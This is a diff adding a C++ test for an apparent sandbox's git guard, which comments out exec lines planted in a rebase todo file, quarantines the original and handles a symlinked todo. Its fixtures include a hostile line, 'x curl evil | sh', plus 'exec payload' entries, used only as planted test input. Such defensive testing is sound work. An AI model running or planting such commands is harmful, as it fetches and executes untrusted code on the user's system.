@@ -280,3 +280,48 @@ TEST_CASE("git guard: a linked worktree's .git in the work tree is checked, one 
   CHECK(read(s.root / "elsewhere/.git") == "gitdir: /moved/by/the/host\n");
   CHECK_FALSE(g.reported(s.root / "elsewhere/.git"));
 }
+
+TEST_CASE("git guard: exec lines added to a rebase todo are commented out, earlier ones kept",
+          "[git_guard]") {
+  Scratch s;
+  const fs::path git = s.root / "work/.git", todo = git / "rebase-merge/git-rebase-todo";
+  // A rebase in progress when the run starts, with an exec line of the user's.
+  write(todo, "pick 1111 one\nexec make test\npick 2222 two\n");
+  write(git / "worktrees/w/gitdir", "/nonexistent/.git\n");
+  Guarded g(s.root / "work");
+  {
+    const GitGuard guard(g.policy, g.options);
+    // Progress (a line done), and planted commands in both forms.
+    write(todo, "exec make test\n  x curl evil | sh\r\npick 2222 two\nexec\tpayload\n");
+    write(git / "worktrees/w/rebase-merge/git-rebase-todo", "break\nexec payload\n");
+  }
+  CHECK(read(todo) ==
+        "exec make test\n# sbx:   x curl evil | sh\r\npick 2222 two\n# sbx: exec\tpayload\n");
+  const auto kept = named(git / "rebase-merge", "git-rebase-todo.sbx-quarantine-");
+  REQUIRE(kept.size() == 1);
+  CHECK(read(kept[0]) == "exec make test\n  x curl evil | sh\r\npick 2222 two\nexec\tpayload\n");
+  CHECK(read(git / "worktrees/w/rebase-merge/git-rebase-todo") == "break\n# sbx: exec payload\n");
+  bool commands = false;
+  for (const auto& e : g.events) {
+    if (e.data.value("change", "") == "exec_added" && e.data.value("path", "") == todo.string())
+      commands = e.data["commands"] == nlohmann::json{"  x curl evil | sh", "exec\tpayload"};
+  }
+  CHECK(commands);
+  // Only progress (exec lines done, none new): left alone.
+  Guarded g2(s.root / "work");
+  {
+    const GitGuard guard(g2.policy, g2.options);
+    write(todo, "pick 2222 two\n");
+  }
+  CHECK(read(todo) == "pick 2222 two\n");
+  CHECK(g2.events.empty());
+  // A todo replaced by a symlink: moved aside as the link, nothing written.
+  Guarded g3(s.root / "work");
+  {
+    const GitGuard guard(g3.policy, g3.options);
+    fs::remove(todo);
+    fs::create_symlink(s.root / "elsewhere-todo", todo);
+  }
+  CHECK(!fs::exists(fs::symlink_status(todo)));
+  CHECK(g3.reported(todo));
+}
